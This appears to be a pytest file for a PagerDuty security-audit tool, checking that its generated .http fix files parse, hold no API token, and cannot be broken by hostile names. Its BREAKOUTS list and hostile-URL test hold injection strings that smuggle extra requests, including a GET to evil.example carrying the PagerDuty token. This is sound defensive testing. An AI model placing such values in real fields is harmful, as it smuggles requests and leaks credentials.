"""``.http`` files: they parse, hold no secret, and no name breaks out of its place."""

from __future__ import annotations

import msgspec
import pytest

from pdsec_checks.finding import Finding
from pdsec_checks.fixes.fix import Fix, Request
from pdsec_checks.reports.fixes import http
from tests.simulator import builders
from tests.simulator.accounts.secret import PREFIX
from tests.support.changed import replace
from tests.support.fails import ACCOUNTS, BASE_URL, a_document, fails, more_fails
from tests.support.findings import HOSTILE, a_finding, a_resource
from tests.support.http_files import Written, parse
from tests.support.judged import a_snapshot, inspect

BREAKOUTS = (
    "x\n###\nDELETE https://api.pagerduty.com/users/P1\n",
    "x\r\n### y\rGET https://evil.example/{{PAGERDUTY_API_TOKEN}}",
    "{{PAGERDUTY_API_TOKEN}} {{{{x}}}} {{$processEnv HOME}}",
    "< {% client.global.set('x', 1) %}\n> {% x %}\n< ./secrets.json",
    "\u2028###\u2029\x85\x0b\x0c### z",
    '"}}\n\nContent-Type: text/plain',
)
"""Names that want out of a comment, a heading or a body."""


def sent(text: str) -> list[Written]:
    """Return the requests of a file."""
    return [each for each in parse(text) if each.method]


@pytest.mark.parametrize("name", ACCOUNTS)
def test_files_parse_into_the_requests_of_their_fixes(name: str) -> None:
    """Each request is there with method, address and body, but for those to be checked first."""
    found = (*fails(name), *more_fails())
    document = a_document(*found)
    wanted = [
        (each.method, each.path if each.path.startswith("https") else BASE_URL + each.path,
         each.body)
        for entry in document.entries for each in entry.fix.requests if not each.check
    ]  # fmt: skip

    assert [(each.method, each.url, each.body) for each in sent(http.render(document))] == wanted


def test_every_request_takes_the_key_from_a_variable() -> None:
    """No file holds a key: editors take it from their environment; PagerDuty's version is named."""
    for each in sent(http.render(a_document(*fails("demo")))):
        if each.url.startswith("https://events."):
            assert set(each.headers) == {"Content-Type"}
            assert not each.variables
        else:
            assert each.headers["Authorization"] == "Token token={{PAGERDUTY_API_TOKEN}}"
            assert each.headers["Accept"] == "application/vnd.pagerduty+json;version=2"
            assert each.variables == ["PAGERDUTY_API_TOKEN"]


def test_what_must_be_checked_first_is_a_comment() -> None:
    """A DELETE is there to be read, and not to be sent."""
    (finding, *_) = [each for each in fails("demo") if each.control == "PD-15"]
    text = http.render(a_document(finding))

    assert "# CHECK first: the new subscription delivers" in text
    assert f"# DELETE {BASE_URL}/extensions/{finding.resource.id}" in text
    assert [each.method for each in sent(text)] == ["POST"]


def test_fails_come_by_severity_each_with_its_fingerprint() -> None:
    """Whoever works from top to bottom does the critical ones first."""
    found = fails("demo")
    titles = [each.title for each in parse(http.render(a_document(*found)))]
    ids = {each.fingerprint[:12]: each for each in found}
    order = [ids[word].severity.weight for title in titles for word in title.split() if word in ids]

    assert len(order) == len(found)
    assert order == sorted(order, reverse=True)


def test_what_the_api_cannot_do_says_where_it_is_done() -> None:
    """A fail without a request leaves the remedy of its cause, as a comment."""
    (finding,) = [each for each in fails("demo") if each.control == "PD-03"]
    text = http.render(a_document(finding))

    assert sent(text) == []
    assert "# No request does this. Hand the account to the one who is to own it under" in text


def test_second_change_of_one_object_says_that_it_may_undo_the_first() -> None:
    """A PUT replaces: two of them for one policy or service, sent as they are, keep the second."""
    bare = builders.a_policy("Bare", id="PBARE")
    service = builders.a_service("Shop", "PGONE", id="PSHOP", acknowledgement_timeout=None)
    snapshot = a_snapshot(escalation_policies=[bare], services=[service])
    found = [each for name in ("PD-05", "PD-06", "PD-07", "PD-22") for each in
             inspect(snapshot, name)]  # fmt: skip
    marks = {each.control: f"{each.control} {each.fingerprint[:12]}" for each in found}
    parts = {each.title.partition(" ")[0]: each for each in sent(http.render(a_document(*found)))}
    said = "above changes the same: bring its change into this body too, or this may undo it"

    assert list(parts) == ["PD-05", "PD-06", "PD-07", "PD-22"]
    for control, earlier in {"PD-07": "PD-06", "PD-22": "PD-05"}.items():
        assert f"{marks[earlier]} {said}" in parts[control].comments
        assert not [each for each in parts[earlier].comments if said in each]


def test_one_fix_that_replaces_two_objects_warns_of_nothing() -> None:
    """Requests of one fail are written to be sent in their order."""
    request = Request("PUT", "/users/P1", {"user": {}})
    fix = Fix("complete", "", [request, request])  # type: ignore[arg-type]  # as it comes from JSON
    finding = replace(a_finding("PD-22"), fix=fix.to_json())

    assert "above changes" not in http.render(a_document(finding))


@pytest.mark.parametrize("name", ["secrets", "demo"])
def test_no_file_holds_a_secret(name: str) -> None:
    """Neither what the account hides nor any token."""
    text = http.render(a_document(*fails(name)))

    assert PREFIX not in text
    assert "token=" not in text.replace("token={{PAGERDUTY_API_TOKEN}}", "")


def hostile(name: str) -> Finding:
    """Return a fail with a name wherever one may stand."""
    body = {"service": {"name": name, "list": [name, {name: name}]}}
    requests = [
        Request("PUT", "/services/P1", body, name),
        Request("DELETE", "/services/P1", body, name, name),
    ]
    fix = Fix("complete", name, requests)  # type: ignore[arg-type]  # as it comes from JSON
    finding = a_finding("PD-22", resource=a_resource(name), message=f"{name} is an example")
    return replace(finding, fix=fix.to_json())


@pytest.mark.parametrize("name", [*BREAKOUTS, *HOSTILE])
def test_no_name_breaks_out(name: str) -> None:
    """Whatever a resource is called, there is one request, and its body has the name unchanged."""
    finding = hostile(name)
    text = http.render(a_document(finding))
    (found,) = sent(text)

    assert (found.method, found.url) == ("PUT", f"{BASE_URL}/services/P1")
    assert found.body == msgspec.convert(finding.fix, Fix).requests[0].body
    assert found.variables == ["PAGERDUTY_API_TOKEN"]
    assert "{%" not in text
    assert not set(text) & set("\r\x00\x07\x0b\x0c\x1b\x85\u2028\u2029\u202e\u2066\ud800\ufeff")


def test_hostile_address_stays_one_address() -> None:
    """What a report says of its base URL ends neither a line nor an address."""
    document = replace(
        a_document(hostile("x")), base_url="https://api.pagerduty.com/x y\n\nGET https://evil"
    )

    assert [each.method for each in sent(http.render(document))] == ["PUT"]
